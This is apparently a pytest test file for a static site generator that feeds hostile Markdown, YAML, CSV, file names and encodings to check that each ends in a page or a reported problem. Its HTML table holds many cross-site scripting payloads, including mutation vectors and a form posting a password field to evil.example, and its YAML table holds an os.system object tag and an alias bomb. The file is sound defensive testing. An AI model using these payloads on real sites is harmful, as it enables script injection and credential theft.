"""Naughty inputs: whatever lies in the content folder, there are problems or pages, no tracebacks.

Sizes are chosen so that anything quadratic would be noticed by whoever waits for the tests.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from smallsite import codes_of, story

from generator.pipeline import Prepared
from generator.render.complexity import MAX_HEADINGS, MAX_QUOTES, is_too_complex

SiteFrom = Callable[..., Prepared]
MANY = 100_000

MARKDOWN = {
    "asterisks": "*" * MANY,
    "asterisks apart": "*a " * MANY,
    "underscores": "_a_" * MANY,
    "tildes": "~" * MANY,
    "backticks": "".join("`" * n + " " for n in range(1, 1000)),
    "brackets": "[" * MANY,
    "brackets both": "[" * MANY + "]" * MANY,
    "images": "![" * 50_000,
    "links": "[a](https://a.example/)" * 20_000,
    "broken links": "[a](none.md)" * 2_000,
    "link in link": "[a](b" * 20_000,
    "parentheses": "[a](" + "(" * 50_000 + ")" * 50_000,
    "reference bomb": "[a]: /" + "x" * 20_000 + "\n" + "[a]" * 10_000,
    "references": "".join(f"[{n}]: /\n" for n in range(20_000)),
    "footnotes": "[^a]" * 20_000 + "\n\n[^a]: x\n",
    "footnotes without text": "".join(f"[^{n}] " for n in range(60_000)),
    "footnotes in footnotes": "".join(f"[^{n}]: [^{n + 1}]\n" for n in range(2_000)),
    "quotes": ">" * MANY,
    "quotes apart": "> " * 5_000 + "a",
    "lists": "- " * 20_000,
    "lists deep": "".join(" " * n + "- a\n" for n in range(1_000)),
    "headings alike": "# a\n" * 5_000,
    "underlined headings": "a\n=\n" * 5_000,
    "tables": "|a" * 500 + "\n" + "|-" * 500 + "\n" + "|\n" * 1_000,
    "figures between ticks": "{fig:x} " + "".join("`" * n + " " for n in range(1, 800)),
    "figures behind ticks": "{fig:x} " + "`" * MANY,
    "figures that do not end": "{fig:" + " " * 300_000,
    "entities": "&" * MANY + "&#0;&#x110000;&#xD800;&notanentity;&lt;",
    "addresses": "a@b.c " * 20_000,
    "www": "www." * 20_000,
    "rules": "---\n" * 20_000,
    "html open": "<div>\n" + "<div>" * 100_000,
    "html bold": "<b>" * 100_000,
    "html unfinished": "<div>\n" + "<a " * 100_000,
    "html comments": "<div>\n" + "<!--" * 30_000,
    "html declarations": "<div>\n" + "<!x" * 30_000 + "<![CDATA[" * 10_000,
    "html sections": "<div>\n<![if x]><![x[y]]><![endif]><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "html headings": '<h2 id="s-">' * 30_000,
    "html tables": "<div>\n" + "<table>" * 20_000,
    "html formatting": "<div>\n" + "<a><b><i>" * 5_000 + "</a></b></i>" * 1_000,
    "html attributes": "<p " + "a=b " * 50_000 + ">x</p>",
    "html quote": '<p title="' + "a" * 200_000,
    "control of direction": "\u202e\u2066a\u2069\u200b\u200d\ufeff",
    "combining": "a" + "\u0301" * 50_000,
    "astral": "𠀀" * 50_000,
    "line separators": "a\u2028b\u2029c\x85d" * 1_000,
    "nothing but spaces": " " * 500_000,
    "tabs": "\t" * 100_000 + "a",
    "the mark of frames": "t0!body! t0!head! /--0123456789abcdef01234567--/ ",
}


@pytest.mark.parametrize("name", MARKDOWN)
def test_hostile_markdown_ends_in_a_page_or_in_problems(site_from: SiteFrom, name: str) -> None:
    prepared = site_from(story("2024/x", MARKDOWN[name]))
    assert "stories/2024/x.md" in prepared.desk.bodies
    for problem in prepared.problems:
        assert problem.where.path == "stories/2024/x.md"
        assert problem.line().isprintable()


@pytest.mark.parametrize("name", ["quotes", "quotes apart", "headings alike", "html open"])
def test_bodies_that_nobody_writes_are_refused(site_from: SiteFrom, name: str) -> None:
    assert codes_of(site_from(story("2024/x", MARKDOWN[name]))) == ["L341"]


def test_long_but_ordinary_bodies_are_not_too_complex() -> None:
    paragraphs = "校友在现场 <b>介绍</b>。\n\n" * 10_000
    quoted = "> 引文\n" * 10_000
    headed = "## 一\n\n字\n\n" * (MAX_HEADINGS // 2)
    nested = ">" * MAX_QUOTES + " 字\n"
    code = "```\n" + "a > b >> c <- d\n" * 5_000 + "```\n"
    for text in (paragraphs, quoted, headed, nested, code):
        assert not is_too_complex(text)


YAML = {
    "brackets": "a: " + "[" * 40_000,
    "braces": "{" * 40_000,
    "dashes": "- " * 40_000,
    "question marks": "? " * 40_000,
    "laughs": "a: &a [x]\n" + "".join(f"b{n}: &b{n} [*a,*a,*a]\n" for n in range(100)),
    "a billion of keys": "".join(f"k{n}: v\n" for n in range(2_000)),
    "one long key": "k" * 2_000 + ": v",
    "a long line": "a: " + "x" * 60_000,
    "tags": "a: !!python/object/apply:os.system ['true']",
    "surrogates": 'a: "\\ud800\\udc00"',
    "binary": 'a: "\\x00\\x1b\\x9b"',
    "binary keys": '"\\x00\\x1b[31m\\n": a',
    "lines in keys": '? "a\n\n  b"\n: c',
    "a key of a block": "? |\n  a\n  b\n: c",
    "empty key": ": a",
    "empty keys": '"": a\n"": b',
    "documents": "a: b\n--- !x\nc",
    "directives": "%YAML 9.9\n%TAG ! x\n",
    "quote": "a: '",
    "literal": "a: |+\n" + "\n" * 30_000,
    "comment": "#" * 60_000,
    "a topic of blanks": "a: b #c" + " " * 60_000 + "d",
    "dates": "date: 0000-00-00\npublish_at: 99999-1-1\nexpires_at: '2024-01-01T00:00+99:99'",
    "numbers": "order: 1e999\nyear: 999999999999999999999999",
    "lists for all": "".join(
        f"{n}: [[a], {{b: c}}]\n" for n in ("title", "date", "people", "tags")
    ),
    "maps for all": "".join(
        f"{n}: {{a: {{b: c}}}}\n" for n in ("title", "date", "cover", "status")
    ),
    "separators": "title: a\u2028b\ndate: 2024-01-01\ncolumn: x\u2029y",
    "nested separators": "".join("a:\u2028" + " " * (n + 1) for n in range(500)),
}
PLACES = {
    "story": "-- stories/2024/x.md --\n---\n{}\n---\n",
    "person": "-- people/x.yml --\n{}\n",
    "honors": "-- honors/x.yml --\n{}\n",
    "taxonomy": "-- taxonomies/regions.yml --\n{}\n",
    "no kind": "-- notes/x.yml --\n{}\n",
    "other ending": "-- stories/x.yml --\n{}\n",
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", YAML)
def test_hostile_yaml_ends_in_problems(site_from: SiteFrom, name: str, place: str) -> None:
    prepared = site_from(PLACES[place].replace("{}", YAML[name]))
    path = PLACES[place].split()[1]
    found = [p for p in prepared.problems if p.where.path == path]
    assert found or (place, name) == ("taxonomy", "comment")
    assert all(p.line().isprintable() for p in found)
    lines = len((prepared.content.folder.read(path)).decode().split("\n"))
    assert all(p.where.line <= lines for p in found)


TABLES = {
    "a header without end": ",".join(f"c{n}" for n in range(MANY)) + "\nx\n",
    "a header of one name": "c," * MANY + "\nx\n",
    "rows of nobody": "person\n" + "".join(f"p{n}\n" for n in range(20_000)),
    "rows of another table": "name,klass\n" + "甲,1\n" * 20_000,
    "rows of no year": "name,class_year\n" + "甲,x\n" * 20_000,
}


@pytest.mark.parametrize("name", TABLES)
def test_hostile_tables_end_in_problems(site_from: SiteFrom, name: str) -> None:
    honors = "-- honors/x.yml --\ntitle: t\nhonor: may-day\nyear: 2024\nentries: x.csv\n"
    prepared = site_from(f"{honors}-- honors/x.csv --\n{TABLES[name]}")
    assert {problem.where.path for problem in prepared.problems} == {"honors/x.csv"}


def test_a_site_of_wrong_links_is_told_what_is_near(site_from: SiteFrom) -> None:
    """As after a move from another system: thousands of links, each a little wrong."""
    bodies = ["".join(f"[a](award-{n + 9 * m}-x.md)\n" for m in range(20)) for n in range(300)]
    prepared = site_from("".join(story(f"2024/award-{n}", b) for n, b in enumerate(bodies)))
    assert {problem.code for problem in prepared.problems} == {"L320"}
    assert prepared.problems[0].nearest == "2024/award-0"


HTML = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example></sCrIpT>",
    "script broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with slash": "<script/src=//evil.example>",
    "script with NUL entity": "<scr&#0;ipt>alert(1)</scr&#0;ipt>",
    "image": "<img src=x onerror=alert(1)>",
    "image unquoted": '<img src="x"onerror=alert(1)>',
    "image with slash": "<img/src/onerror=alert(1)>",
    "image with tab": "<img\tsrc=x\tonerror\t=\talert(1)>",
    "image with newline": "<div><img\nsrc=x\nonerror\n=alert(1)></div>",
    "srcset": "<img srcset='//evil.example/a 1x' src=/media/a.png>",
    "picture": "<picture><source srcset=//evil.example/a><img src=x></picture>",
    "svg": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1)</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,x#y'></use></svg>",
    "svg foreign": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "math": "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "math mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=alert(1)&gt;'>",
    "form mutation": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "noscript mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "style mutation": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "base": "<base href=//evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>*{background:url(//evil.example)}</style><p style='position:fixed'>x</p>",
    "form": "<form action=//evil.example><input name=password><button>x</button></form>",
    "javascript": "<a href=javascript:alert(1)>x</a>",
    "javascript in capitals": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "javascript by entities": "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>",
    "javascript by controls": "<a href='&#1;&#9;java&#10;scr&NewLine;ipt:alert(1)'>x</a>",
    "javascript by spaces": "<a href=' \u3000javascript:alert(1)'>x</a>",
    "javascript in Markdown": "[x](javascript:alert(1)) [x](&#x6A;avascript:alert(1))",
    "javascript by reference": "[x]\n\n[x]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)> <vbscript:x>",
    "javascript quoted out": '[x](https://a.example/"onmouseover="alert(1))',
    "javascript in an address": 'https://a.example/"onmouseover=alert(1)//校友 <b>x</b>',
    "javascript in a title": "[x](https://a.example/ '\"onmouseover=\"alert(1)')",
    "javascript in an alt": '![x"onerror="alert(1)](/media/none.png)',
    "data": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a> [x](data:text/html,x)",
    "other host": "<a href=//evil.example>x</a> [x](//evil.example) [x](\\\\evil.example)",
    "ids": "<div id=__config>x</div><h2 id=__search>x</h2><a id=location name=body>x</a>",
    "classes": "<div class='md-header md-overlay'>x</div>",
    "handlers": "<details ontoggle=alert(1) open>x</details><body onload=alert(1)>",
    "audio": "<audio src=//evil.example onloadstart=alert(1)></audio>",
    "video": "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "cite": "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "background": "<table background=javascript:alert(1)><td background=//evil.example>x</table>",
    "processing": "<?php echo 1 ?><?xml version='1.0'?><!DOCTYPE x>",
    "comment": "<!--><img src=x onerror=alert(1)>--><!--[if IE 4]><script>x</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "plaintext": "<plaintext><xmp><listing><textarea><title></textarea><script>alert(1)</script>",
    "closing": "</div></main></body></html>",
    "shadow": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "ping": "<a href=/ ping=//evil.example target=_top download>x</a>",
}


@pytest.mark.parametrize("name", HTML)
@pytest.mark.parametrize("around", ["{}", "字 {} 字", "<b>字</b>\n\n{}\n", "| a |\n|---|\n| {} |"])
def test_hostile_html_does_not_come_through(site_from: SiteFrom, name: str, around: str) -> None:
    from rawcheck import assert_harmless

    prepared = site_from(story("2024/x", around.replace("{}", HTML[name])))
    assert_harmless(prepared.desk.bodies["stories/2024/x.md"].html)


NAMES = ["CON.md", "aux.md", "nul.tar.md", "com1.md", "a .md", " a.md", "a..md", "ａ.md", "A.md"]
NAMES += [
    "%2e%2e.md",
    "a?.md",
    "a*b.md",
    "a:b.md",
    "获奖.md",
    "é.md",
    "-.md",
    "a\u202eb.md",
]


@pytest.mark.parametrize("name", NAMES)
def test_names_that_some_system_refuses_are_problems(site_from: SiteFrom, name: str) -> None:
    codes = codes_of(site_from(story("2024/x").replace("x.md", name)))
    assert codes in (["L233"], ["L103"])


@pytest.mark.parametrize("name", ["x.MD", ".md.md"])
def test_an_ending_in_capitals_is_read_and_a_hidden_file_is_not_seen(
    site_from: SiteFrom, name: str
) -> None:
    prepared = site_from(story("2024/x").replace("x.md", name))
    assert codes_of(prepared) == []
    assert [entry.path for entry in prepared.content.entries] == (
        ["stories/2024/x.MD"] if name == "x.MD" else []
    )


def test_names_that_differ_in_case_only_are_not_both_published(site_from: SiteFrom) -> None:
    assert codes_of(site_from(story("2024/x") + story("2024/X"))) == ["L233"]


def test_a_story_that_is_a_folder_is_no_story(site_from: SiteFrom, tmp_path: Path) -> None:
    (tmp_path / "content0/stories/2024/x.md").mkdir(parents=True)
    assert codes_of(site_from("")) == []


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "utf-32", "gb18030", "big5", "shift-jis"]
)
@pytest.mark.parametrize("path", ["stories/2024/x.md", "people/x.yml", "taxonomies/regions.yml"])
def test_other_encodings_are_problems(site_from: SiteFrom, encoding: str, path: str) -> None:
    prepared = site_from(f"-- {path} ({encoding}) --\n---\ntitle: 校友人物\n---\n")
    assert codes_of(prepared)[0] in ("L111", "L112")


@pytest.mark.parametrize(
    "data",
    [
        "",
        "\ufeff",
        "---",
        "---\n",
        "---\n---",
        "---\n---\n",
        "--- \n--- \n",
        "----\n----\n",
        "---\n...\n",
        "\n---\n---\n",
        " ---\n",
        "---\r\n---\r\n",
        "---\ra: b\r---\r",
        "+++\n+++\n",
        "---\na: b\n----\n",
        "---\n{}\n---\n",
        "---\n[]\n---\n",
        "---\nnull\n---\n",
        "---\n# x\n---\n",
    ],
)
def test_beginnings_of_stories(site_from: SiteFrom, data: str) -> None:
    prepared = site_from(f"-- stories/2024/x.md --\n{data}")
    assert codes_of(prepared)
    assert all(p.where.path == "stories/2024/x.md" for p in prepared.problems)
